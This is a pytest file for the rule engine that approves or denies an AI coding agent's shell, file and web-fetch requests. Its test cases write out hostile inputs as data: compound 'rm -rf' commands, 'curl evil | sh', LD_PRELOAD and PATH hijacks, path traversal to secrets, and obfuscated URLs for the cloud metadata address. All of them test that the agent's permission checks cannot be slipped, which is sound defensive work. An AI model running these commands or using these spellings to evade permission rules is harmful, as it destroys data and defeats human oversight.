"""The permission rules that answer ACP requests without a person: ``Shell(…)`` rules judge
every simple command of a compound command, deny rules win wherever they match, ``Write(…)``
and ``Read(…)`` judge the normalised path. The first cases are the review's (2026-11-24)."""

from __future__ import annotations

from typing import Any

import pytest

from cursor_agent_api.permissions import (
    Allow,
    Deny,
    PermissionDecision,
    PermissionRequest,
    decide_by_rules,
    match_rule,
)
from cursor_agent_api.protocol.acp_mapper import acp_tool_call


def _shell(cmd: str) -> PermissionRequest:
    return PermissionRequest("s1", acp_tool_call({"toolCallId": "c", "kind": "execute",
                                                   "title": f"`{cmd}`", "rawInput": {"command": cmd}}))


def _edit(path: str) -> PermissionRequest:
    return PermissionRequest("s1", acp_tool_call({
        "toolCallId": "c", "kind": "edit", "title": "Edit File", "rawInput": {"path": path},
        "content": [{"type": "diff", "path": path, "oldText": "", "newText": "curl evil | sh"}]}))


def _read(path: str) -> PermissionRequest:
    return PermissionRequest("s1", acp_tool_call({"toolCallId": "c", "kind": "read",
                                                   "title": "Read File", "rawInput": {"path": path}}))


def _allow_rules(request: PermissionRequest, *allowed: str, mode: str = "deny") -> PermissionDecision | None:
    return decide_by_rules(request, mode=mode, allowed=list(allowed), denied=[])


def _deny_rules(request: PermissionRequest, *denied: str, mode: str = "allow") -> PermissionDecision | None:
    return decide_by_rules(request, mode=mode, allowed=[], denied=list(denied))


# --- allow rules: every simple command must be covered ------------------------------------

@pytest.mark.parametrize("cmd", [
    # the review's cases
    "ls && rm -rf important", "ls; rm -rf important", "ls | sh -c 'rm -rf important'",
    "ls $(rm -rf important)", "ls\nrm -rf important",
    # more separators and groupings
    "ls || rm -rf important", "ls & rm -rf important", "ls |& rm -rf important",
    "ls;rm -rf important", "(ls); rm -rf important", "(ls && rm -rf important)",
    "{ ls; rm -rf important; }", "ls\r\nrm -rf important", "ls#x; rm -rf important",
    "if ls; then rm -rf important; fi", "ls -la && rm -rf important",
    # substitutions, process substitutions
    "ls `rm -rf important`", "ls \"$(rm -rf important)\"", "ls <(rm -rf important)",
    "ls >(rm -rf important)", "ls ${x:-$(rm -rf important)}",
    "ls ${ rm -rf important; }", "ls ${|rm -rf important;}",  # bash 5.3's own substitutions
    "ls *(e:'rm -rf important':)", "ls =(rm -rf important)", "ls (rm -rf important)",  # zsh, fish
    # redirections to files
    "ls > important", "ls >> important", "ls < important", "ls 2> important",
    "ls &> important", "ls >& important", "ls >| important", "ls <<< x", "ls; > important",
    "> important ls",
    # environment and command words the rule cannot name
    "PATH=/tmp/x ls", "LD_PRELOAD=/tmp/evil.so ls -la", "PATH=/tmp/x; ls", "/tmp/evil/ls",
    "l? -la", "$X", "{ls,-la}",
    # quoting shlex reads otherwise than the shell: a comment hides an open quote from bash
    # (which then runs the next line), $'…' escapes a quote
    "ls # '\nrm -rf important\n'", "ls;# '\nrm -rf important\n'",
    "ls $'a\\'b' ; rm -rf important ; ls \\'",
    # cannot be parsed
    "ls 'unterminated", "ls \\",
    # a line continuation (backslash, newline): bash removes it before it reads the line, so
    # it can complete "$(" or "$'" where a reader of the line sees neither (the review's)
    'ls "$\\\n(rm -rf important)"', "ls $\\\n'\\'' ; rm -rf important #'",
    "ls \\\n&& rm -rf important",
])
def test_allow_ls_approves_only_ls(cmd: str) -> None:
    decision = _allow_rules(_shell(cmd), "Shell(ls)")
    assert isinstance(decision, Deny), (cmd, decision)
    assert not match_rule("Shell(ls)", _shell(cmd))


@pytest.mark.parametrize("cmd", [
    "ls", "ls -la", "ls 'a b'", "ls && ls -la", "ls; ls", "(ls)", "ls\n", "ls;", "! ls",
    "if ls; then ls; fi", "ls 2>&1", "ls 2>/dev/null", "ls >/dev/null 2>&1", "ls &>/dev/null",
    "ls </dev/null", "ls $HOME", "ls \"x\" 'a b'", "ls 'a #b'", "ls \\#b",
])
def test_allow_ls_approves_ls_commands(cmd: str) -> None:
    assert _allow_rules(_shell(cmd), "Shell(ls)") == Allow(), cmd


@pytest.mark.parametrize("cmd", ["ls '$(not run)'", "ls '`not run`'", "ls # a comment", "ls a#b",
                                 "ls 'costs 5$'"])
def test_what_the_rules_do_not_read_is_not_approved_even_when_harmless(cmd: str) -> None:
    # a "$(" or backtick even in quotes, a "#" that may start a comment, "$'": not judged
    assert _allow_rules(_shell(cmd), "Shell(ls)", mode="ask") is None, cmd


@pytest.mark.parametrize(("cmd", "allowed", "approved"), [
    ("ls | wc -l", ["Shell(ls)", "Shell(wc)"], True),          # each part by its own rule
    ("ls | wc -l", ["Shell(ls)"], False),
    ("git status && git diff", ["Shell(git)"], True),
    ("git status && rm -rf x", ["Shell(git)"], False),
    ("git status", ["Shell(git status*)"], True),               # a glob over a simple command
    ("git status; git push", ["Shell(git status*)"], False),    # ...never over the separator
    ("ls && rm -rf x", ["Shell(ls*)"], False),
    ("ls && rm -rf x", ["Shell(*)"], True),                     # Shell(*): any command at all
    ("ls $(rm -rf x) > y", ["Shell(*)"], True),
    ("/bin/ls -la", ["Shell(/bin/ls)"], True),                  # a path only by its path
    ("/bin/ls -la", ["Shell(*/ls)"], True),
])
def test_allow_rules_cover_each_simple_command(cmd: str, allowed: list[str], approved: bool) -> None:
    decision = _allow_rules(_shell(cmd), *allowed)
    assert isinstance(decision, Allow) is approved, (cmd, allowed, decision)


@pytest.mark.parametrize("cmd", ["ls && rm -rf x", "ls $(rm x)", "PATH=/tmp/x ls"])
def test_a_command_the_rules_cannot_approve_falls_to_the_mode(cmd: str) -> None:
    assert _allow_rules(_shell(cmd), "Shell(ls)", mode="ask") is None  # the callback decides
    assert _allow_rules(_shell(cmd), "Shell(ls)", mode="allow") == Allow()
    assert isinstance(_allow_rules(_shell(cmd), "Shell(ls)", mode="read-only"), Deny)


# --- deny rules: any simple command, and when in doubt they match --------------------------

@pytest.mark.parametrize("cmd", [
    # the review's cases
    "true && rm -rf important", "cd build; rm -rf ..",
    # more
    "true || rm -rf important", "true | rm -rf important", "true\nrm -rf important",
    "(rm -rf important)", "X=1 rm -rf important", "A=1 B=2 /bin/rm -rf important",
    "2>/dev/null rm -rf important", "! rm -rf important", "if true; then rm x; fi",
    "for f in *; do rm $f; done", "f() { rm -rf important; }; f", "function f { rm x; }",
    "time rm x", "coproc rm x",
    # substitutions: the command cannot be split, a deny rule matches any word
    "echo $(rm -rf important)", "echo `rm -rf important`", "cat <(rm -rf important)",
    "echo \"$(rm -rf important)\"", "true 'unterminated && rm -rf important",
    "echo ${ rm -rf important; }", "echo ${\trm -rf important; }",
    "true # '\nrm -rf important\n'", "echo $'a\\'b' ; rm -rf important ; echo \\'",
    # a command word the rules cannot know
    "$X -rf important", "X=rm; $X -rf important", "{rm,-rf,important}", "r? -rf important",
    # what bash runs after joining a line continuation; time's own options (the review's)
    "r\\\nm -rf important", "rm\\\n -rf important", "true; r\\\nm x",
    "time -p rm -rf important", "time -p -- rm x",
    # a shell that reads its commands from its input or a file: the rules cannot see them
    "echo 'rm -rf x' | bash", "printf 'rm -rf x' | sh", "bash <<< 'rm -rf x'", "sh < cleanup.sh",
    "bash cleanup.sh",
])
def test_deny_rm_wins_in_a_compound_command(cmd: str) -> None:
    decision = _deny_rules(_shell(cmd), "Shell(rm)")
    assert isinstance(decision, Deny), (cmd, decision)
    assert match_rule("Shell(rm)", _shell(cmd), deny=True)


@pytest.mark.parametrize("cmd", [
    "exec rm x", "command rm x", "builtin rm x", "sudo rm -rf x", "sudo -u root /bin/rm x",
    "env X=1 rm x", "nohup rm x &", "xargs rm < list", "timeout 5 rm x", "nice -n 5 rm x",
    "sh -c 'rm -rf x'", "bash -lc \"cd x && rm -rf y\"", "eval 'rm x'", "eval rm x",
    "find . -name '*.o' | xargs sh -c 'rm \"$@\"' _", "sudo sh -c 'ls; rm x'",
])
def test_a_deny_rule_looks_through_wrappers_and_shells(cmd: str) -> None:
    assert isinstance(_deny_rules(_shell(cmd), "Shell(rm)"), Deny), cmd
    assert not isinstance(_allow_rules(_shell(cmd), "Shell(rm)", "Shell(ls)"), Allow), cmd


def test_a_deny_rule_with_a_glob_looks_through_wrappers() -> None:
    assert isinstance(_deny_rules(_shell("sudo rm -rf /"), "Shell(rm -rf *)"), Deny)
    assert isinstance(_deny_rules(_shell("sh -c 'rm -rf /'"), "Shell(rm -rf *)"), Deny)


@pytest.mark.parametrize("cmd", ["ls -la", "grep rm notes.txt", "echo rm", "ls && echo done",
                                 "git rm --cached x", "[ -f x ] && echo yes", "sudo ls",
                                 "sh -c 'ls -la'", "env", "xargs echo < list"])
def test_deny_rm_does_not_match_other_commands(cmd: str) -> None:
    assert _deny_rules(_shell(cmd), "Shell(rm)") == Allow(), cmd


def test_deny_wins_over_allow_in_a_compound_command() -> None:
    request = _shell("ls && rm -rf important")
    decision = decide_by_rules(request, mode="allow", allowed=["Shell(*)"], denied=["Shell(rm)"])
    assert decision == Deny("denied by the rule Shell(rm)")


def test_a_deny_rule_with_a_glob_over_the_command_still_matches() -> None:
    for cmd in ["git push --force", "git status && git push --force", "cd x; git push -f",
                "/usr/bin/git push", "X=1 git push"]:
        assert isinstance(_deny_rules(_shell(cmd), "Shell(git push*)"), Deny), cmd
    assert _deny_rules(_shell("git status"), "Shell(git push*)") == Allow()


# --- paths -------------------------------------------------------------------------------

@pytest.mark.parametrize("path", ["src/../../home/me/.bashrc", "src/../secrets/k", "src/./../x"])
def test_write_rule_does_not_reach_outside_its_folder(path: str) -> None:
    assert isinstance(_allow_rules(_edit(path), "Write(src/**)"), Deny), path
    assert isinstance(_allow_rules(_read(path), "Read(src/**)"), Deny), path


@pytest.mark.parametrize("path", ["src/a.py", "src/pkg/../b.py", "./src/c.py", "src//d.py"])
def test_write_rule_approves_paths_inside_its_folder(path: str) -> None:
    assert _allow_rules(_edit(path), "Write(src/**)") == Allow(), path
    assert _allow_rules(_read(path), "Read(src/**)") == Allow(), path


@pytest.mark.parametrize(("path", "denied"), [("src/../secrets/k", True), ("secrets/k", True),
                                              ("./secrets/../secrets/k", True), ("src/k", False)])
def test_a_deny_path_rule_matches_the_normalised_path(path: str, denied: bool) -> None:
    assert isinstance(_deny_rules(_edit(path), "Write(secrets/**)"), Deny) is denied, path
    assert isinstance(_deny_rules(_read(path), "Read(secrets/**)"), Deny) is denied, path


# --- requests that do not say what they touch: a deny rule matches (when in doubt) --------
# review of ACP facts (2026-11-24), finding 6: an edit's rawInput is {} at first (ACP.md §7)

def _bare(kind: str, raw_input: dict[str, Any] | None = None) -> PermissionRequest:
    return PermissionRequest("s1", acp_tool_call({"toolCallId": "c", "kind": kind, "title": "",
                                                   "rawInput": raw_input or {}}))


@pytest.mark.parametrize("raw_input", [{}, {"path": ""}, {"path": "  "}])
@pytest.mark.parametrize("rule", ["Write(secrets/**)", "Write(/**)", "Write(x.py)"])
def test_a_deny_write_rule_matches_an_edit_without_a_path(rule: str, raw_input: dict[str, Any]) -> None:
    assert _deny_rules(_bare("edit", raw_input), rule) == Deny(f"denied by the rule {rule}")
    assert _deny_rules(_bare("delete", raw_input), rule) == Deny(f"denied by the rule {rule}")


def test_a_deny_read_rule_matches_a_read_without_a_path() -> None:
    assert isinstance(_deny_rules(_bare("read"), "Read(secrets/**)"), Deny)
    assert _deny_rules(_bare("read"), "Write(secrets/**)") == Allow()  # another kind's rule


def test_an_allow_rule_does_not_approve_a_request_without_a_path() -> None:
    assert isinstance(_allow_rules(_bare("edit"), "Write(src/**)"), Deny)
    assert _allow_rules(_bare("edit"), "Write(src/**)", mode="ask") is None


def test_a_deny_rule_matches_a_shell_call_without_a_command() -> None:
    assert isinstance(_deny_rules(_bare("execute"), "Shell(rm)"), Deny)
    assert _allow_rules(_bare("execute"), "Shell(ls)", mode="ask") is None


def test_a_deny_rule_matches_an_mcp_or_fetch_call_that_does_not_name_its_target() -> None:
    from cursor_agent_api.protocol.tools import ToolCall, ToolKind

    def call(kind: ToolKind, **args: str) -> PermissionRequest:
        return PermissionRequest("s", ToolCall("c", kind, args=dict(args)))

    assert isinstance(_deny_rules(call(ToolKind.MCP), "Mcp(github:*)"), Deny)
    assert isinstance(_deny_rules(call(ToolKind.MCP, providerIdentifier="github"),
                                  "Mcp(github:create_issue)"), Deny)
    assert _deny_rules(call(ToolKind.MCP, providerIdentifier="slack"),
                       "Mcp(github:create_issue)") == Allow()  # the known server differs
    assert isinstance(_deny_rules(call(ToolKind.WEB_FETCH), "WebFetch(evil.example)"), Deny)
    assert _deny_rules(call(ToolKind.WEB_FETCH, url="https://ok.example/x"),
                       "WebFetch(evil.example)") == Allow()
    assert isinstance(_deny_rules(call(ToolKind.WEB_SEARCH), "WebSearch(*secret*)"), Deny)


def test_the_rules_of_other_kinds_are_unchanged() -> None:
    def mcp(server: str, tool: str) -> PermissionRequest:
        args: dict[str, Any] = {"providerIdentifier": server, "toolName": tool}
        from cursor_agent_api.protocol.tools import ToolCall, ToolKind
        return PermissionRequest("s", ToolCall("c", ToolKind.MCP, args=args))

    assert _allow_rules(mcp("github", "create_issue"), "Mcp(github:*)") == Allow()
    assert isinstance(_allow_rules(mcp("slack", "post"), "Mcp(github:*)"), Deny)
    assert isinstance(_deny_rules(mcp("github", "x"), "Mcp(github:*)"), Deny)


def _fetch(url: str | None) -> PermissionRequest:
    from cursor_agent_api.protocol.tools import ToolCall, ToolKind

    return PermissionRequest("s", ToolCall("c", ToolKind.WEB_FETCH,
                                           args={} if url is None else {"url": url}))


@pytest.mark.parametrize("url", [
    "https://evil.example/x",
    "https://evil.example./x",  # a trailing dot: the same host to a resolver
    "https://evil%2Eexample/x",  # percent-encoded: the same host to Node's URL parser
    "https://EVIL.example:8443/x",
    "evil.example/x",  # no scheme
    "http://[::1",  # not a URL that parses: unknown, which a deny rule matches
])
def test_a_fetch_deny_rule_matches_every_spelling_of_its_host(url: str) -> None:
    """Review of the change, finding 3: a spelling of the host the rule did not compare was
    allowed, and a URL that does not parse raised from the rules."""
    assert isinstance(_deny_rules(_fetch(url), "WebFetch(evil.example)"), Deny), url
    assert isinstance(_deny_rules(_fetch(url), "WebFetch(Evil.Example)"), Deny), url


# review 53, finding 6: the agent (Node) reads URLs as WHATWG does, urllib otherwise: '\\' is '/'
# in http(s) URLs, tabs and newlines are dropped, a full-width dot is a dot. Such a URL names no
# host the rules can trust: a deny rule matches it, an allow rule for one host does not approve it
@pytest.mark.parametrize("url", [
    "https://evil.example\\@docs.example/",  # urllib: docs.example; Node: evil.example
    "https://evil.example\\.docs.example/",
    "https://ev\til.example@docs.example/",
    "https://docs.example\n@evil.example/",
    "https://evil\u3002example/",  # Node: evil.example
    # review 54: a special scheme without '//' (urllib: host 'https'), WHATWG's other IPv4
    # forms (Node: 169.254.169.254 for each), an IPv6 address written long (Node: [::1])
    "https:evil.example/", "https:/evil.example/", "HTTPS:evil.example:443",
])
def test_a_url_read_otherwise_by_the_agent_names_no_host(url: str) -> None:
    assert isinstance(_deny_rules(_fetch(url), "WebFetch(evil.example)"), Deny), url
    assert isinstance(_allow_rules(_fetch(url), "WebFetch(docs.example)"), Deny), url


@pytest.mark.parametrize(("url", "rule"), [
    ("http://2852039166/latest/meta-data/", "WebFetch(169.254.169.254)"),
    ("http://0xA9.0xFE.0xA9.0xFE/", "WebFetch(169.254.169.254)"),
    ("http://169.254.43518/", "WebFetch(169.254.169.254)"),
    ("http://0251.0376.0251.0376/", "WebFetch(169.254.169.254)"),
    ("http://[0:0::1]:8080/", "WebFetch(::1)"),
    ("http://[::FFFF:169.254.169.254]/", "WebFetch(169.254.169.254)"),  # (IPv4-mapped)
])
def test_an_address_written_another_way_is_the_address(url: str, rule: str) -> None:
    assert isinstance(_deny_rules(_fetch(url), rule), Deny), url


@pytest.mark.parametrize(("url", "rule"), [
    # review 55: the rule's own spelling of an address (as the URL or Node writes it)
    ("http://[::ffff:127.0.0.1]/admin", "WebFetch(::ffff:127.0.0.1)"),
    ("http://[::ffff:7f00:1]/", "WebFetch(::ffff:7f00:1)"),
    ("http://[::ffff:a9fe:a9fe]/latest/meta-data/", "WebFetch(::ffff:a9fe:a9fe)"),
    ("http://[::ffff:a9fe:a9fe]/latest/meta-data/", "WebFetch(::ffff:*)"),
    ("http://[::1]/", "WebFetch(0:0:0:0:0:0:0:1)"),
    ("http://[fe80::1]/", "WebFetch(fe80:0:0:0:0:0:0:1)"),
    ("http://[::1]/", "WebFetch([::1])"),
])
def test_a_rule_names_an_address_in_any_spelling(url: str, rule: str) -> None:
    assert isinstance(_deny_rules(_fetch(url), rule), Deny), (url, rule)
    assert _allow_rules(_fetch(url), rule) == Allow(), (url, rule)


def test_a_fetch_deny_rule_leaves_other_hosts_alone() -> None:
    for url in ("https://ok.example/x", "https://evil.example.org/x", "https://notevil.example/"):
        assert _deny_rules(_fetch(url), "WebFetch(evil.example)") == Allow(), url


def test_a_star_rule_approves_a_fetch_or_search_that_does_not_name_its_target() -> None:
    """Review of the change, finding 4: docs/acp.md says only a ``*`` rule approves such a
    request; ``WebFetch(*)`` and ``WebSearch(*)`` did not."""
    from cursor_agent_api.protocol.tools import ToolCall, ToolKind

    search = PermissionRequest("s", ToolCall("c", ToolKind.WEB_SEARCH, args={}))
    assert _allow_rules(_fetch(None), "WebFetch(*)") == Allow()
    assert _allow_rules(search, "WebSearch(*)") == Allow()
    assert _allow_rules(_fetch(None), "WebFetch(ok.example)", mode="ask") is None
